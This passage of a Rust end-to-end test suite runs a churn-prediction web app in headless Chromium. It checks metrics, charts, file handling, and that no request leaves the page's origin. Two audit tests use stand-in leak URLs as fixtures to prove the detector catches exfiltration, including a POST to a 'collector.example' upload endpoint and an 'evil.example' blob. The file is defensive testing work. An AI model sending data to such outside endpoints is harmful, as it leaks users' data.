//! End-to-end tests in real headless Chromium against the built site (`dist/`).
//!
//! They need `trunk build --release` and chromedriver, so they are `#[ignore]`d in a plain
//! `cargo test` and run by scripts/test.sh (`cargo test --test e2e -- --ignored`). Every test
//! records every request the page makes through DevTools and fails if one leaves the origin.

mod browser;

use browser::*;
use fantoccini::Client;
use serde_json::Value;

/// Everything a test needs; the driver is killed when this drops.
struct Session {
    server: StaticServer,
    client: Client,
    netlog: std::path::PathBuf,
    _driver: Driver,
}

async fn open_app() -> Session {
    let server = StaticServer::start(repo().join("dist"));
    let driver = Driver::start();
    let (client, netlog) = browser_with_netlog(&driver).await;
    // Drop what Chromium's own start page loaded before the app was opened; every request
    // from here on is audited.
    let before = requested_urls(&client).await;
    eprintln!(
        "start page made {} requests before the app opened",
        before.len()
    );
    client
        .goto(&format!("{}/", server.origin))
        .await
        .expect("open the app");
    Session {
        server,
        client,
        netlog,
        _driver: driver,
    }
}

impl Session {
    /// Asserts no request left the origin and every request was for one of the app's files.
    async fn audit_network(&self) -> Vec<String> {
        let urls = requested_urls(&self.client).await;
        assert!(
            urls.iter().any(|u| u.ends_with(".wasm")),
            "the DevTools log should show the app's own wasm being fetched: {urls:?}"
        );
        let foreign = foreign_requests(&urls, &self.server.origin);
        assert!(
            foreign.is_empty(),
            "requests left the page's origin: {foreign:?}"
        );
        for path in self.server.requests.lock().expect("log").iter() {
            let clean = path.split(['?', '#']).next().unwrap_or("/");
            let file = if clean == "/" {
                "index.html"
            } else {
                clean.trim_start_matches('/')
            };
            assert!(
                self.server.root.join(file).is_file(),
                "the page asked its server for {path}, which is not one of the app's files"
            );
        }
        // The Content-Security-Policy blocked nothing: the app needs nothing it forbids.
        let console = console_messages(&self.client).await;
        let violations: Vec<&String> = console
            .iter()
            .filter(|m| m.contains("Content Security Policy") || m.contains("Refused to"))
            .collect();
        assert!(violations.is_empty(), "CSP violations: {violations:?}");
        urls
    }

    /// Quits the browser, then checks its own net log: every request anything of ours
    /// started (the page and its workers, whose requests DevTools' page log does not show)
    /// stayed on the origin. Returns the URLs our origin started.
    async fn close(self) -> Vec<String> {
        let _ = self.client.close().await;
        // The log is finished when the browser has quit.
        let mut entries = Vec::new();
        for _ in 0..50 {
            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
            let text = std::fs::read_to_string(&self.netlog).unwrap_or_default();
            if text.trim_end().ends_with('}') {
                entries = netlog_urls(&self.netlog);
                break;
            }
        }
        assert!(
            !entries.is_empty(),
            "the browser's net log {:?} is empty or unfinished",
            self.netlog
        );
        let ours = requests_initiated_by(&entries, &self.server.origin);
        let foreign = foreign_requests(&ours, &self.server.origin);
        assert!(
            foreign.is_empty(),
            "the app or its worker requested: {foreign:?}"
        );
        // Chromium's own background requests (update checks, account lists) carry no
        // initiator; they are the browser's, not the page's, and only counted here.
        let browsers_own = entries.iter().filter(|(_, i)| i.is_none()).count();
        eprintln!(
            "net log: {} requests by the app, {browsers_own} by the browser itself",
            ours.len()
        );
        let _ = std::fs::remove_file(&self.netlog);
        ours
    }
}

/// Runs `churnscope train` on the sample with `extra` arguments and checks that every metric
/// the page shows equals the CLI's to the 4 decimals shown.
async fn assert_page_metrics_equal_cli(c: &Client, extra: &[&str]) {
    let mut args = vec!["train", "public/sample_customers.csv", "--format", "json"];
    args.extend_from_slice(extra);
    let cli = std::process::Command::new(cli_binary())
        .args(&args)
        .current_dir(repo())
        .output()
        .expect("run the CLI");
    let cli: serde_json::Value = serde_json::from_slice(&cli.stdout).expect("CLI json");
    for (id, key) in [
        ("metric-roc-auc", "roc_auc"),
        ("metric-pr-auc", "pr_auc"),
        ("metric-accuracy", "accuracy"),
        ("metric-precision", "precision"),
        ("metric-recall", "recall"),
        ("metric-f1", "f1"),
        ("metric-log-loss", "log_loss"),
    ] {
        let expected = format!("{:.4}", cli["metrics"][key].as_f64().expect("metric"));
        assert_eq!(
            text_of(c, id).await,
            expected,
            "{id} {extra:?}: page vs native CLI"
        );
    }
}

async fn number(client: &Client, testid: &str) -> f64 {
    let text = text_of(client, testid).await;
    text.trim()
        .parse()
        .unwrap_or_else(|_| panic!("{testid} holds '{text}', not a number"))
}

/// Counts canvas pixels near the model colour (Okabe-Ito blue, rgb(0, 114, 178)) and any
/// non-white pixels.
async fn roc_pixels(client: &Client) -> (u64, u64, Value) {
    let v = client
        .execute(
            r#"const c = document.querySelector('[data-testid=roc-chart]');
               if (!c) return null;
               const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;
               let blue = 0, ink = 0;
               for (let i = 0; i < d.length; i += 4) {
                 if (Math.abs(d[i]) < 40 && Math.abs(d[i+1] - 114) < 40 && Math.abs(d[i+2] - 178) < 40) blue++;
                 if (d[i] < 200 || d[i+1] < 200 || d[i+2] < 200) ink++;
               }
               return [blue, ink, c.dataset.drawn || c.dataset.error || null];"#,
            vec![],
        )
        .await
        .expect("read canvas");
    (
        v[0].as_u64().unwrap_or(0),
        v[1].as_u64().unwrap_or(0),
        v[2].clone(),
    )
}

#[test]
fn audit_flags_requests_outside_the_origin() {
    // The audit itself must be able to fail: these URLs are what a leak would look like.
    let origin = "http://127.0.0.1:4000";
    let urls: Vec<String> = [
        "http://127.0.0.1:4000/",
        "http://127.0.0.1:4000/app_bg.wasm",
        "data:image/png;base64,AAAA",
        "blob:http://127.0.0.1:4000/1234",
        "https://fonts.example.com/font.woff2",
        "http://127.0.0.1:4001/other-port",
        "http://127.0.0.1:40000/prefix-trick",
        "blob:https://evil.example/1",
        "chrome://resources/js/util.js",
        "chrome-extension://abc/x.js",
        "ws://127.0.0.1:4001/socket",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    assert_eq!(
        foreign_requests(&urls, origin),
        [
            "https://fonts.example.com/font.woff2",
            "http://127.0.0.1:4001/other-port",
            "http://127.0.0.1:40000/prefix-trick",
            "blob:https://evil.example/1",
            "chrome-extension://abc/x.js",
            "ws://127.0.0.1:4001/socket"
        ]
    );
}

#[test]
fn net_log_audit_catches_a_worker_request_to_another_origin() {
    // The shape of Chromium's --log-net-log output: one event per line.
    let origin = "http://127.0.0.1:4000";
    let log = format!(
        r#"{{"constants": {{}},
"events": [
{{"params":{{"initiator":"{origin}","method":"GET","url":"{origin}/worker_bg.wasm"}},"phase":1,"source":{{"id":7,"type":1}},"time":"1","type":2}},
{{"params":{{"initiator":"{origin}","method":"POST","url":"https://collector.example/upload"}},"phase":1,"source":{{"id":8,"type":1}},"time":"2","type":2}},
{{"params":{{"method":"GET","url":"https://update.googleapis.com/service"}},"phase":1,"source":{{"id":9,"type":1}},"time":"3","type":2}},
{{"params":{{"initiator":"http://127.0.0.1:4001","url":"http://127.0.0.1:4001/x"}},"phase":1,"source":{{"id":10,"type":1}},"time":"4","type":2}},
{{"params":{{"initiator":"{origin}","url":"{origin}/cut-short"#
    );
    let path = std::env::temp_dir().join(format!(
        "churnscope-netlog-test-{}.json",
        std::process::id()
    ));
    std::fs::write(&path, log).expect("write");
    let entries = netlog_urls(&path);
    let _ = std::fs::remove_file(&path);
    assert_eq!(
        entries.len(),
        4,
        "the line cut short is skipped: {entries:?}"
    );
    let ours = requests_initiated_by(&entries, origin);
    assert_eq!(
        ours,
        [
            format!("{origin}/worker_bg.wasm"),
            "https://collector.example/upload".to_string()
        ]
    );
    assert_eq!(
        foreign_requests(&ours, origin),
        ["https://collector.example/upload"]
    );
}

#[tokio::test]
#[ignore = "needs the built site and chromedriver: run scripts/test.sh"]
async fn telco_upload_train_metrics_chart_and_no_request_leaves_the_origin() {
    let s = open_app().await;
    let c = &s.client;
    upload(c, &shared_dataset("WA_Fn-UseC_-Telco-Customer-Churn.csv")).await;
    // datasets/README.md: 7043 rows x 21 columns; customerID is an id, TotalCharges has 11
    // blank cells that must read as missing numbers.
    assert_eq!(text_of(c, "row-count").await, "7043");
    assert_eq!(text_of(c, "column-count").await, "21");
    let rows = c
        .execute(
            r#"return [...document.querySelectorAll('[data-testid=column-row]')]
                 .map(r => [...r.children].map(td => td.querySelector('select')?.value ?? td.textContent));"#,
            vec![],
        )
        .await
        .expect("column table");
    let row = |name: &str| {
        rows.as_array()
            .and_then(|rs| rs.iter().find(|r| r[0] == name))
            .cloned()
            .unwrap_or_else(|| panic!("no row for {name} in {rows}"))
    };
    assert_eq!(row("customerID")[1], "identifier");
    assert_eq!(row("TotalCharges")[1], "numeric");
    assert_eq!(row("TotalCharges")[2], "11");
    assert_eq!(row("Contract")[1], "categorical");
    assert_eq!(row("SeniorCitizen")[1], "boolean");
    // The profile of Contract: levels by count with their churn rates. Reference: pandas 3.1.1,
    // df.groupby("Contract").Churn: Month-to-month 3875 rows, 1655 churned (42.7%); Two year
    // 1695 (2.8%); One year 1473 (11.3%).
    c.execute(
        r#"[...document.querySelectorAll('[data-testid=profile-link]')]
             .find(b => b.textContent === 'Contract').click(); return true;"#,
        vec![],
    )
    .await
    .expect("open the Contract profile");
    let bars = wait_for(
        c,
        "the Contract profile",
        r#"return [...document.querySelectorAll('[data-testid=profile-bar]')]
             .map(r => [...r.children].map(td => td.textContent));"#,
        |v| v.as_array().is_some_and(|a| a.len() == 3),
    )
    .await;
    assert_eq!(
        bars,
        serde_json::json!([
            ["Month-to-month", "3875", "42.7%"],
            ["Two year", "1695", "2.8%"],
            ["One year", "1473", "11.3%"]
        ])
    );
    // A numeric column: statistics and a 10-bin histogram (tenure has 73 distinct values).
    c.execute(
        r#"[...document.querySelectorAll('[data-testid=profile-link]')]
             .find(b => b.textContent === 'tenure').click(); return true;"#,
        vec![],
    )
    .await
    .expect("open the tenure profile");
    wait_for(
        c,
        "the tenure histogram",
        "return document.querySelectorAll('[data-testid=profile-bar]').length;",
        |v| v == 10,
    )
    .await;
    // pandas: df.tenure.min() = 0, max() = 72, median() = 29.
    let stats = text_of(c, "profile-stats").await;
    assert!(
        stats.contains("min0") && stats.contains("max72") && stats.contains("median29"),
        "{stats}"
    );
    screenshot(c, "01-telco-column-profile.png").await;

    // Warnings: the id column, and baselines.md's "22 duplicate rows once IDs are dropped".
    let warnings = wait_for(
        c,
        "data warnings",
        "return [...document.querySelectorAll('[data-testid=data-warning]')].map(e => e.textContent);",
        |v| v.as_array().is_some_and(|a| a.len() >= 2),
    )
    .await;
    let warnings = warnings.to_string();
    assert!(
        warnings.contains("'customerID' looks like an identifier"),
        "{warnings}"
    );
    assert!(
        warnings.contains("22 rows repeat an earlier row"),
        "{warnings}"
    );
    let target = wait_for(
        c,
        "the detected target",
        "return document.querySelector('[data-testid=target-select]')?.value ?? null;",
        |v| v.as_str().is_some_and(|s| !s.is_empty()),
    )
    .await;
    assert_eq!(target, "Churn");
    let positive = text_of(c, "positive-select").await;
    assert!(
        positive.starts_with("Yes"),
        "positive value should be Yes first: {positive}"
    );
    screenshot(c, "00-telco-loaded.png").await;

    click(c, "train-button").await;
    let auc = number(c, "metric-roc-auc").await;
    // baselines.md: scikit-learn's seed pipeline reaches 0.8419 on the reference split; the
    // app's own seeded split differs, so the issue allows 0.02 around 0.842.
    assert!((auc - 0.842).abs() < 0.02, "ROC AUC {auc}");
    for id in [
        "metric-accuracy",
        "metric-precision",
        "metric-recall",
        "metric-f1",
        "metric-pr-auc",
    ] {
        let v = number(c, id).await;
        assert!((0.0..=1.0).contains(&v), "{id} = {v}");
    }
    assert!(number(c, "metric-log-loss").await > 0.0);
    // Confusion matrix cells add up to the test set.
    let mut total = 0.0;
    for id in [
        "confusion-tn",
        "confusion-fp",
        "confusion-fn",
        "confusion-tp",
    ] {
        total += number(c, id).await;
    }
    assert_eq!(total, number(c, "n-test").await);
    // Charts paint in a task of their own right after the results appear.
    wait_for(
        c,
        "the ROC chart painted",
        "const e = document.querySelector('[data-testid=roc-chart]'); return e && e.dataset.drawn ? true : null;",
        |v| v == true,
    )
    .await;
    let (blue, ink, state) = roc_pixels(c).await;
    assert_eq!(state, "true", "the chart reports it was drawn");
    // The canvas is 520 x 400 CSS px at device scale 1 (--force-device-scale-factor=1). A
    // curve from (0, 0) to (1, 1) is at least as long as the plot's diagonal (about 540 px)
    // and drawn 2 px wide, so even half of it anti-aliased away leaves over 300 pixels in the
    // model colour; the axes, tick labels, titles and legend ink well over 3,000.
    assert!(
        blue > 300,
        "the ROC curve is drawn in the model colour ({blue} pixels)"
    );
    assert!(
        ink > 3000,
        "axes, labels and legend are drawn ({ink} pixels)"
    );
    screenshot(c, "02-telco-results.png").await;

    // Training runs in the worker: boosted trees on Telco leave the page's main thread free
    // (no long task over 200 ms, by the browser's own PerformanceObserver).
    c.execute(
        "window.__longTasks = []; new PerformanceObserver(l => { for (const e of l.getEntries()) window.__longTasks.push(e.duration); }).observe({entryTypes: ['longtask']}); return true;",
        vec![],
    )
    .await
    .expect("observe long tasks");
    // The observer sees a deliberate 150 ms block of the main thread in a page task (so a
    // quiet result below means a quiet page, not a deaf observer); then the record starts
    // afresh. (A script run by WebDriver itself is not counted as a page task.)
    c.execute(
        "setTimeout(() => { const t = performance.now(); while (performance.now() - t < 150) {} }, 0); return true;",
        vec![],
    )
    .await
    .expect("block the main thread");
    wait_for(
        c,
        "the observer to report the deliberate long task",
        "return window.__longTasks.some(d => d >= 140) ? true : null;",
        |v| v == &Value::Bool(true),
    )
    .await;
    c.execute("window.__longTasks = []; return true;", vec![])
        .await
        .expect("reset");
    // Two models at once, each with 5-fold cross-validation.
    choose_models(c, &["logistic", "gbdt"]).await;
    cv_folds(c, 5).await;
    click(c, "train-button").await;
    wait_for(
        c,
        "the live loss curve while the models train",
        "const e = document.querySelector('[data-testid=loss-chart]'); return e && e.dataset.drawn ? true : null;",
        |v| v == true,
    )
    .await;
    wait_for(
        c,
        "both models trained",
        "return document.querySelector('[data-testid=train-time]') ? document.querySelectorAll('[data-testid=comparison-row]').length : null;",
        |v| v == 2,
    )
    .await;
    let longest = c
        .execute("return Math.max(0, ...window.__longTasks);", vec![])
        .await
        .expect("long tasks")
        .as_f64()
        .expect("a number");
    eprintln!(
        "longest main-thread task while training LR + boosted trees with 5-fold CV: {longest} ms"
    );
    assert!(longest <= 200.0, "a {longest} ms long task while training");
    // The comparison table: one row per model with every column, the best highlighted.
    let table = c
        .execute(
            r#"return [...document.querySelectorAll('[data-testid=comparison-row]')].map(r => ({
                 model: r.dataset.model,
                 cells: Object.fromEntries([...r.querySelectorAll('[data-metric]')].map(td => [td.dataset.metric, td.textContent])),
                 best: [...r.querySelectorAll('td.best')].map(td => td.dataset.metric),
               }));"#,
            vec![],
        )
        .await
        .expect("comparison table");
    eprintln!("comparison table: {table}");
    let rows = table.as_array().expect("rows");
    assert_eq!(rows[0]["model"], "logistic");
    assert_eq!(rows[1]["model"], "gbdt");
    for r in rows {
        let cell = |k: &str| r["cells"][k].as_str().unwrap_or_default().to_string();
        let auc: f64 = cell("roc_auc").parse().expect("roc auc");
        // baselines.md: Telco test ROC AUC 0.8419 (logistic), 0.8325 (LightGBM); 0.03 around.
        assert!((auc - 0.835).abs() < 0.03, "{r}");
        for k in [
            "pr_auc",
            "f1",
            "recall",
            "precision",
            "log_loss",
            "brier",
            "fit_seconds",
        ] {
            let v: f64 = cell(k).parse().unwrap_or_else(|_| panic!("{k} in {r}"));
            assert!(v >= 0.0, "{k} in {r}");
        }
        assert!(cell("cv_mean").contains(" ± "), "CV mean ± sd: {r}");
    }
    // The first model's ROC AUC is the one the logistic regression alone gave.
    assert_eq!(rows[0]["cells"]["roc_auc"], format!("{auc:.4}"));
    let bests: usize = rows
        .iter()
        .map(|r| r["best"].as_array().map_or(0, Vec::len))
        .sum();
    assert!(
        bests >= 9,
        "every column has a best value highlighted: {table}"
    );
    // Every chart is drawn.
    wait_for(
        c,
        "the explanation charts painted",
        "const e = document.querySelector('[data-testid=pd-chart-0]'); return e && e.dataset.drawn ? true : null;",
        |v| v == true,
    )
    .await;
    for id in [
        "roc-chart",
        "pr-chart",
        "gains-chart",
        "lift-chart",
        "calibration-chart",
        "distribution-chart",
        "sweep-chart",
        "importance-chart",
        "pd-chart-0",
    ] {
        let state = c
            .execute(
                &format!("const e = document.querySelector('[data-testid={id}]'); return e ? (e.dataset.drawn || e.dataset.error || 'not drawn') : 'missing';"),
                vec![],
            )
            .await
            .expect("chart state");
        assert_eq!(state, "true", "{id}");
    }
    // The threshold slider: as it moves, churners caught plus churners missed stay the test
    // set's churners, and fewer customers are flagged at a higher threshold.
    let mut last_flagged = f64::INFINITY;
    let mut churners = None;
    for t in ["0.1", "0.3", "0.5", "0.7", "0.9"] {
        c.execute(
            &format!(
                "const s = document.querySelector('[data-testid=threshold-slider]'); s.value = '{t}';
                 s.dispatchEvent(new Event('input', {{bubbles: true}})); return true;"
            ),
            vec![],
        )
        .await
        .expect("move the slider");
        assert_eq!(
            text_of(c, "threshold-value").await,
            format!("{:.3}", t.parse::<f64>().expect("t"))
        );
        let (tp, fn_, fp, tn) = (
            number(c, "slider-tp").await,
            number(c, "slider-fn").await,
            number(c, "slider-fp").await,
            number(c, "slider-tn").await,
        );
        assert_eq!(tp + fn_ + fp + tn, number(c, "n-test").await);
        let caught_and_missed = tp + fn_;
        assert_eq!(
            *churners.get_or_insert(caught_and_missed),
            caught_and_missed,
            "TP + FN at {t}"
        );
        let flagged = number(c, "slider-flagged").await;
        assert_eq!(flagged, tp + fp);
        assert!(
            flagged <= last_flagged,
            "fewer flagged at a higher threshold ({t})"
        );
        last_flagged = flagged;
    }
    screenshot_of(c, "threshold-panel", "05-threshold-slider.png").await;
    click(c, "threshold-f1").await;
    let best_f1 = number(c, "slider-f1").await;
    c.execute(
        "const s = document.querySelector('[data-testid=threshold-slider]'); s.value = '0.5'; s.dispatchEvent(new Event('input', {bubbles: true})); return true;",
        vec![],
    )
    .await
    .expect("back to 0.5");
    assert!(
        best_f1 >= number(c, "slider-f1").await,
        "Best F1 is at least F1 at 0.5"
    );
    click(c, "threshold-recall").await;
    assert!(
        number(c, "slider-recall").await >= 0.8,
        "the default target recall is 80%"
    );
    screenshot_of(c, "comparison-table", "04-model-comparison.png").await;
    screenshot_of(c, "roc-chart", "06-roc-curves.png").await;
    screenshot_of(c, "gains-chart", "07-gains.png").await;
    screenshot_of(c, "calibration-chart", "08-calibration.png").await;
    screenshot_of(c, "importance-chart", "09-importance.png").await;
    screenshot_of(c, "risky-table", "10-riskiest-customers.png").await;
    assert_eq!(
        c.execute(
            "return document.querySelectorAll('[data-testid=risky-row]').length;",
            vec![]
        )
        .await
        .expect("risky rows"),
        20
    );
    // Pick the other model: the page follows it.
    c.execute(
        "[...document.querySelectorAll('[data-testid=use-model]')].find(b => b.dataset.model === 'gbdt').click(); return true;",
        vec![],
    )
    .await
    .expect("use the trees");
    wait_for(
        c,
        "the trees in use",
        "const e = document.querySelector('[data-testid=result-model]'); return e ? e.textContent : null;",
        |v| v == "gradient-boosted trees",
    )
    .await;
    c.execute(
        r#"const s = document.querySelector('[data-testid=cv-folds]'); s.value = '0';
           s.dispatchEvent(new Event('change', {bubbles: true})); return true;"#,
        vec![],
    )
    .await
    .expect("no cross-validation");
    // Cancel a run and start another: a network of 2,000 hidden units takes long enough
    // to be caught running whatever the machine's load (100 units on Telco can finish
    // before the live curve is looked at and Cancel clicked).
    choose_models(c, &["mlp"]).await;
    c.execute(
        "document.querySelector('[data-testid=advanced]').open = true; return true;",
        vec![],
    )
    .await
    .expect("open the advanced settings");
    set_field(c, "param-mlp-units", "2000").await;
    click(c, "train-button").await;
    wait_for(
        c,
        "the training progress",
        "const e = document.querySelector('[data-testid=cancel-button]'); return e ? true : null;",
        |v| v == true,
    )
    .await;
    wait_for(
        c,
        "the network's live loss curve",
        "const e = document.querySelector('[data-testid=loss-chart]'); return e && e.dataset.drawn ? true : null;",
        |v| v == true,
    )
    .await;
    screenshot_of(c, "loss-chart", "11-live-loss.png").await;
    let elapsed = text_of(c, "progress-elapsed").await;
    assert!(
        elapsed.ends_with(" s"),
        "time elapsed beside the progress: {elapsed}"
    );
    click(c, "cancel-button").await;
    let notice = text_of(c, "notice").await;
    assert!(notice.contains("Training stopped"), "{notice}");
    set_field(c, "param-mlp-units", "100").await;
    choose_models(c, &["logistic"]).await;
    click(c, "train-button").await;
    wait_for(
        c,
        "a logistic regression after the cancelled run",
        "const e = document.querySelector('[data-testid=result-model]'); return e ? e.textContent : null;",
        |v| v == "logistic regression",
    )
    .await;
    assert_eq!(
        number(c, "metric-roc-auc").await,
        auc,
        "the same fit as before"
    );

    // A broken file: a located message, and the trained results stay on screen.
    upload(c, &fixture("ragged.csv")).await;
    let message = text_of(c, "error-message").await;
    assert!(
        message.contains("line 3")
            && message.contains("found 3 fields")
            && message.contains("has 4"),
        "{message}"
    );
    assert_eq!(
        number(c, "metric-roc-auc").await,
        auc,
        "results survive a bad upload"
    );
    assert_eq!(
        text_of(c, "row-count").await,
        "7043",
        "the loaded table survives too"
    );
    screenshot(c, "03-ragged-error.png").await;

    let urls = s.audit_network().await;
    let own = urls
        .iter()
        .filter(|u| u.starts_with(&s.server.origin))
        .count();
    eprintln!("network audit: {own} requests to the page's origin, none elsewhere");
    s.close().await;
}

#[tokio::test]
#[ignore = "needs the built site and chromedriver: run scripts/test.sh"]
async fn sample_dataset_trains_and_bad_files_get_clear_messages() {
    let s = open_app().await;
    let c = &s.client;
    click(c, "sample-button").await;
    // The shipped sample: 5,000 generated customers (engine::sample::SampleSpec::default).
    assert_eq!(text_of(c, "row-count").await, "5000");
    let target = wait_for(
        c,
        "the detected target",
        "return document.querySelector('[data-testid=target-select]')?.value ?? null;",
        |v| v.as_str().is_some_and(|s| !s.is_empty()),
    )
    .await;
    assert_eq!(target, "churned");
    // Flip which value means churned, train, and see the run used it.
    c.find(fantoccini::Locator::Css("[data-testid=positive-select]"))
        .await
        .expect("positive select")
        .select_by_value("No")
        .await
        .expect("choose No");
    click(c, "train-button").await;
    wait_for(
        c,
        "a run with positive value No",
        "const e = document.querySelector('[data-testid=result-positive]'); return e ? e.textContent : null;",
        |v| v == "No",
    )
    .await;
    let auc_no = number(c, "metric-roc-auc").await;
    c.find(fantoccini::Locator::Css("[data-testid=positive-select]"))
        .await
        .expect("positive select")
        .select_by_value("Yes")
        .await
        .expect("choose Yes");
    click(c, "train-button").await;
    wait_for(
        c,
        "a run with positive value Yes",
        "const e = document.querySelector('[data-testid=result-positive]'); return e ? e.textContent : null;",
        |v| v == "Yes",
    )
    .await;
    let auc = number(c, "metric-roc-auc").await;
    // The page runs the engine compiled to wasm; the CLI runs it natively. On the same file,
    // split and seed every metric must agree to the 4 decimals shown.
    assert_page_metrics_equal_cli(c, &[]).await;
    // The other models: the page's (wasm) and the CLI's (native) fits are the same fits
    // (same seeds, same arithmetic), so the metrics agree to the 4 decimals shown.
    for (value, hint_says, result) in [
        ("gbdt", "LightGBM's defaults", "gradient-boosted trees"),
        ("forest", "100 Gini trees", "random forest"),
        ("mlp", "Adam", "neural network"),
    ] {
        choose_model(c, value).await;
        let hint = text_of(c, "model-choice").await;
        assert!(hint.contains(hint_says), "{hint}");
        click(c, "train-button").await;
        wait_for(
            c,
            result,
            "const e = document.querySelector('[data-testid=result-model]'); return e ? e.textContent : null;",
            |v| v == result,
        )
        .await;
        assert_page_metrics_equal_cli(c, &["--model", value]).await;
    }
    choose_model(c, "logistic").await;

    // Swapping the positive value keeps the split (it does not depend on which class is
    // positive) and, with an unpenalised intercept, the L2 optimum for flipped labels is
    // exactly (-w, -b): the scores mirror and the AUC is the same up to solver tolerance
    // (gradient 1e-8) and the 4-decimal display.
    assert!(
        (auc - auc_no).abs() <= 0.0001,
        "AUC {auc} for Yes vs {auc_no} for No"
    );

    // The user marks a column as an identifier: training leaves it out.
    let device_kind = c
        .execute(
            r#"const row = [...document.querySelectorAll('[data-testid=column-row]')]
                 .find(r => r.firstElementChild.textContent === 'preferred_device');
               row.setAttribute('data-e2e', 'device');
               return row.querySelector('select').value;"#,
            vec![],
        )
        .await
        .expect("device row");
    assert_eq!(device_kind, "categorical");
    c.find(fantoccini::Locator::Css(
        "[data-e2e=device] [data-testid=kind-select]",
    ))
    .await
    .expect("device kind select")
    .select_by_value("identifier")
    .await
    .expect("mark as identifier");
    click(c, "train-button").await;
    let left_out = wait_for(
        c,
        "a run without preferred_device",
        "const e = document.querySelector('[data-testid=left-out]'); return e ? e.textContent : null;",
        |v| v.as_str().is_some_and(|t| t.contains("preferred_device")),
    )
    .await;
    assert_eq!(
        left_out,
        "customer_id (identifier), preferred_device (identifier)"
    );

    // Drag and drop: a file dropped on the drop zone is read like a chosen one.
    c.execute(
        r#"const rows = ['id,visits,churn'];
           for (let i = 0; i < 30; i++) rows.push(`u${i},${i % 7},${i % 3 ? 'No' : 'Yes'}`);
           const dt = new DataTransfer();
           dt.items.add(new File([rows.join('\n')], 'dropped.csv', { type: 'text/csv' }));
           document.querySelector('[data-testid=dropzone]')
             .dispatchEvent(new DragEvent('drop', { dataTransfer: dt, bubbles: true, cancelable: true }));
           return true;"#,
        vec![],
    )
    .await
    .expect("drop a file");
    wait_for(
        c,
        "the dropped file's summary",
        "const e = document.querySelector('[data-testid=row-count]'); return e ? e.textContent : null;",
        |v| v == "30",
    )
    .await;

    // A spreadsheet's GBK export: Chinese headers must show correctly (tests/data, written
    // with Python's "gbk" codec).
    upload(c, &fixture("gbk_chinese.csv")).await;
    wait_for(
        c,
        "the GBK file's summary",
        "const e = document.querySelector('[data-testid=file-encoding]'); return e ? e.textContent : null;",
        |v| v == "GB18030",
    )
    .await;
    let headers = c
        .execute(
            "return [...document.querySelectorAll('[data-testid=column-row] td:first-child')].map(td => td.textContent);",
            vec![],
        )
        .await
        .expect("column names");
    assert_eq!(
        headers,
        serde_json::json!(["客户编号", "城市", "消费金额", "注册日期", "是否流失"])
    );
    assert_eq!(
        wait_for(
            c,
            "the 流失 target",
            "return document.querySelector('[data-testid=target-select]')?.value ?? null;",
            |v| v.as_str().is_some_and(|s| !s.is_empty()),
        )
        .await,
        "是否流失"
    );

    // Reading it as Windows-1252 instead garbles the headers; back to "detect" restores them.
    c.find(fantoccini::Locator::Css("[data-testid=encoding-select]"))
        .await
        .expect("encoding select")
        .select_by_value("Windows-1252")
        .await
        .expect("choose Windows-1252");
    wait_for(
        c,
        "the re-read as Windows-1252",
        "const e = document.querySelector('[data-testid=file-encoding]'); return e ? e.textContent : null;",
        |v| v == "Windows-1252",
    )
    .await;
    let garbled = c
        .execute(
            "return document.querySelector('[data-testid=column-row] td').textContent;",
            vec![],
        )
        .await
        .expect("first header");
    assert_ne!(
        garbled, "客户编号",
        "a wrong encoding cannot give the right name"
    );
    c.find(fantoccini::Locator::Css("[data-testid=encoding-select]"))
        .await
        .expect("encoding select")
        .select_by_value("")
        .await
        .expect("back to detect");
    wait_for(
        c,
        "the re-read with detection",
        "const e = document.querySelector('[data-testid=column-row] td'); return e ? e.textContent : null;",
        |v| v == "客户编号",
    )
    .await;

    // An Excel workbook with two sheets: the customer sheet is read (here the first), the
    // other can be chosen.
    upload(c, &fixture("customers.xlsx")).await;
    wait_for(
        c,
        "the workbook's first sheet",
        "const e = document.querySelector('[data-testid=file-sheet]'); return e ? e.textContent : null;",
        |v| v == "Customers",
    )
    .await;
    assert_eq!(text_of(c, "row-count").await, "4");
    c.find(fantoccini::Locator::Css("[data-testid=sheet-select]"))
        .await
        .expect("sheet select")
        .select_by_value("Summary")
        .await
        .expect("choose Summary");
    wait_for(
        c,
        "the Summary sheet",
        "const e = document.querySelector('[data-testid=file-sheet]'); return e ? e.textContent : null;",
        |v| v == "Summary",
    )
    .await;
    assert_eq!(text_of(c, "row-count").await, "2");

    // Issue 14, defect 11: a workbook whose first sheet is a data dictionary opens on the
    // customer sheet and says why; defect 4: its Total row is left out with its row number.
    upload(c, &fixture("dictionary_first.xlsx")).await;
    wait_for(
        c,
        "the customer sheet",
        "const e = document.querySelector('[data-testid=file-sheet]'); return e ? e.textContent : null;",
        |v| v == "E Comm",
    )
    .await;
    assert_eq!(text_of(c, "row-count").await, "10");
    let chosen = text_of(c, "sheet-chosen").await;
    assert!(
        chosen.starts_with("Opened sheet 'E Comm' because it has the most rows among the sheets with a target candidate"),
        "{chosen}"
    );
    let total = text_of(c, "summary-row-warning").await;
    assert!(
        total.starts_with("Row 13 of sheet 'E Comm' looks like a totals row ('Total'"),
        "{total}"
    );
    screenshot(c, "05b-dictionary-sheet-and-total.png").await;
    // A CSV with a blank line and a Total row as spreadsheets export it: 8 customers, the
    // Total row (line 11) left out until the user keeps it, then left out again.
    upload(c, &fixture("total_row.csv")).await;
    wait_for(
        c,
        "the CSV's totals row",
        "return document.querySelector('[data-testid=summary-row-warning]')?.textContent ?? null;",
        |v| v == "Line 11 looks like a totals row ('Total': Churn 3, Tenure 100 and OrderCount 24 are above every customer's); it was left out.",
    )
    .await;
    assert_eq!(text_of(c, "row-count").await, "8");
    click(c, "keep-summary-rows").await;
    wait_for(
        c,
        "the totals row kept",
        "const e = document.querySelector('[data-testid=row-count]'); return e ? e.textContent : null;",
        |v| v == "10",
    )
    .await;
    assert!(text_of(c, "summary-row-warning")
        .await
        .ends_with("it was kept as a customer, as asked."));
    click(c, "drop-summary-rows").await;
    wait_for(
        c,
        "the totals row left out again",
        "const e = document.querySelector('[data-testid=row-count]'); return e ? e.textContent : null;",
        |v| v == "8",
    )
    .await;

    let cases = [
        ("html_page.csv", "an HTML page"),
        ("mixed_encoding.csv", "offset 13"),
        ("empty.csv", "the file is empty"),
        ("header_only.csv", "header row but no data rows"),
        ("ragged.csv", "line 3: found 3 fields"),
        ("no_binary_target.csv", "no usable target"),
        ("single_class.csv", "has only one value ('No')"),
    ];
    for (file, expected) in cases {
        upload(c, &fixture(file)).await;
        let message = wait_for(
            c,
            &format!("the message for {file}"),
